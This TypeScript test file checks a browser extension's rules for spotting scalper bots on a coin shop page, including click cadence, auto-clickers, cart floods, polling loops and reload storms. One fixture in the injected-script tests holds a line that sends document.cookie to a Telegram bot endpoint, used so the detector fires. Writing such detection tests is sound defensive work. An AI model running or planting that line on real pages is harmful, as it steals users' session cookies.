/**
 * The background's aggregation and the bundled rules together: the (bg) fields the aggregators fill are
 * the ones the rules test, with the thresholds the rules ship. Positive and negative per behaviour.
 */
import { describe, expect, it } from 'vitest';
import baseline from '../../../rules/baseline.json' with { type: 'json' };
import { createEngine } from '../../../src/background/engine.ts';
import { judgeIntoRecord } from '../../../src/background/judge.ts';
import { crossCheck } from '../../../src/background/network-crosscheck.ts';
import {
  addPoll,
  cartView,
  completeRequest,
  emptyTraffic,
  observeRequest,
  type SeenRequest,
} from '../../../src/background/network-traffic.ts';
import { reloadStormFinding } from '../../../src/background/reload-storm.ts';
import { newTabRecord, type TabRecord } from '../../../src/background/tab-findings.ts';
import type { Finding } from '../../../src/shared/findings.ts';
import { FOLD_SEPARATOR, MAX_STRING } from '../../../src/shared/page-protocol.ts';
import { compileRuleSet } from '../../../src/shared/rules/compile.ts';

const engine = createEngine(compileRuleSet(baseline), 'test', Date.now);
const SHOP = 'https://kazcoins.nationalbank.kz';
const PAGE = `${SHOP}/kz/product/snow-leopard-silver`;
const NO_TRAFFIC = { cartTimes: [], refusalTimes: [] };

function feed(findings: Finding[], record: TabRecord = { ...newTabRecord('p', PAGE, 0), hooksSince: 0 }): TabRecord {
  return findings.reduce((r, f) => judgeIntoRecord(engine, r, [f], { pageUrl: PAGE, traffic: NO_TRAFFIC }), record);
}
const rules = (record: TabRecord): string[] => [...new Set(record.verdicts.map((v) => v.ruleId))].sort();

const trustedClick = (time: number, x: number, y: number, detail = 1): Finding => ({
  kind: 'purchase-cadence',
  actor: { type: 'unknown' },
  evidence: { control: 'add-to-cart', event: 'click', actions: 1, eventTime: time, x, y, detail, pointer: 'mouse' },
  at: Math.round(time),
});

describe('purchase cadence against the rules', () => {
  it('flags Puppeteer-style clicks: same point, count stuck at 1, ~10 per second', () => {
    const times = [0, 136, 248, 369, 478, 595, 725, 858, 968, 1064, 1153];
    expect(rules(feed(times.map((t) => trustedClick(t, 599.5, 525))))).toEqual(expect.arrayContaining(['SAQ-CAD-001', 'SAQ-CAD-003']));
  });

  it('flags the same driver at Firefox’s slower pace by the stuck click count alone', () => {
    const times = [0, 207, 411, 644, 970, 1208, 1405, 1607];
    expect(rules(feed(times.map((t) => trustedClick(t, 599, 525))))).toEqual(['SAQ-CAD-003']);
  });

  it('stays silent for a fast person at sale start: irregular, never the same pixel twice', () => {
    const times = [0, 240, 690, 1020, 1660, 1890, 2700, 3050];
    expect(rules(feed(times.map((t, i) => trustedClick(t, 590 + ((i * 7) % 13), 520 + ((i * 3) % 8)))))).toEqual([]);
  });
});

describe('untrusted activation against the rules', () => {
  const untrusted = (at: number): Finding => ({
    kind: 'untrusted-activation',
    actor: { type: 'extension' },
    evidence: { control: 'add-to-cart', event: 'click', count: 1, world: 'other' },
    at,
  });

  it('warns at the first and calls it an auto-clicker from the third', () => {
    expect(rules(feed([untrusted(0)]))).toEqual(['SAQ-ACT-001']);
    expect(rules(feed([untrusted(0), untrusted(150), untrusted(300)]))).toEqual(['SAQ-ACT-001', 'SAQ-ACT-002']);
  });
});

describe('network findings against the rules', () => {
  const seen = (i: number, status: number, type = 'xmlhttprequest'): SeenRequest => ({
    id: `r${i}`,
    at: 1000 + i * 40,
    url: `${SHOP}/api/cart/items`,
    method: 'POST',
    type,
    frameId: 0,
    initiator: SHOP,
    endpoint: 'cart',
    origin: 'first_party',
    status,
    done: true,
  });

  it('flags an unhooked burst that ignores 429s', () => {
    let traffic = emptyTraffic();
    let record: TabRecord = { ...newTabRecord('p', PAGE, 0), hooksSince: 0 };
    for (let i = 0; i < 12; i++) {
      traffic = completeRequest(observeRequest(traffic, { ...seen(i, 0), done: false }, 2000, 60_000), `r${i}`, i < 5 ? 200 : 429);
      const { findings } = crossCheck(seen(i, i < 5 ? 200 : 429), null, { hooksActive: true, profile: engine.signals, traffic });
      record = judgeIntoRecord(engine, record, findings, { pageUrl: PAGE, traffic: cartView(traffic) });
    }
    expect(rules(record)).toEqual(['SAQ-CART-001', 'SAQ-CART-003', 'SAQ-CART-004']);
  });

  it('flags a foreign polling loop and leaves the shop’s own polling alone', () => {
    const loop = (actor: Finding['actor'], periodMs: number) => {
      let traffic = emptyTraffic();
      let record: TabRecord = { ...newTabRecord('p', PAGE, 0), hooksSince: 0 };
      for (let i = 0; i < 12; i++) {
        const request = { ...seen(i, 200), at: 1000 + i * periodMs, method: 'GET', url: `${SHOP}/api/stock/p-102`, endpoint: null };
        const hook: Finding = { kind: 'page-request', actor, evidence: { url: request.url, via: 'fetch', method: 'GET' }, at: request.at };
        const result = crossCheck(request, hook, { hooksActive: true, profile: engine.signals, traffic });
        if (result.poll) traffic = addPoll(traffic, result.poll, request.at);
        record = judgeIntoRecord(engine, record, result.findings, { pageUrl: PAGE, traffic: cartView(traffic) });
      }
      return rules(record);
    };
    expect(loop({ type: 'script', url: 'https://helper-cdn.test/poll.js' }, 250)).toEqual(['SAQ-RLD-002']);
    expect(loop({ type: 'page', url: PAGE }, 250)).toEqual([]);
  });

  it('flags a reload storm and not a person pressing F5 a few times', () => {
    const storm = (count: number, gapMs: number) => {
      let traffic = emptyTraffic();
      for (let i = 0; i < count; i++)
        traffic = observeRequest(traffic, { ...seen(i, 0, 'main_frame'), at: i * gapMs, url: PAGE }, i * gapMs, 60_000);
      const finding = reloadStormFinding(traffic, count * gapMs, engine.signals);
      return finding ? rules(feed([finding])) : [];
    };
    expect(storm(40, 800)).toEqual(['SAQ-RLD-001']);
    expect(storm(8, 3000)).toEqual([]);
  });
});

describe('a flood’s folded code texts', () => {
  const fold = (texts: string[]): Finding => ({
    kind: 'script-inserted',
    actor: { type: 'script', url: 'https://helper-cdn.test/flood.js' },
    evidence: {
      src: '',
      inline: true,
      selfRemoved: true,
      sha256: '',
      text: texts.join(FOLD_SEPARATOR),
      how: 'insert',
      sha256Skipped: true,
      folded: texts.length,
    },
    at: 1,
  });
  const filler = (i: number) => `window.__flood = ${i}; // ${'.'.repeat(1500)}`;

  it('are judged whole, so a token in the last text still counts, and kept cut to MAX_STRING', () => {
    const texts = [filler(1), filler(2), filler(3), 'fetch("https://api.telegram.org/bot1:A/sendMessage",{body:document.cookie})'];
    const record = feed([fold(texts)]);
    expect(rules(record)).toContain('SAQ-INJ-006');
    const kept = record.findings[0]!.evidence.text as string;
    expect(kept).toHaveLength(MAX_STRING);
    expect(kept).toBe(texts.join(FOLD_SEPARATOR).slice(0, MAX_STRING));
    for (const verdict of record.verdicts) expect(verdict.finding).toBe(record.findings[0]);
  });

  it('flag nothing more when no text holds a token', () => {
    expect(rules(feed([fold([filler(1), filler(2), filler(3)])]))).not.toContain('SAQ-INJ-006');
  });
});
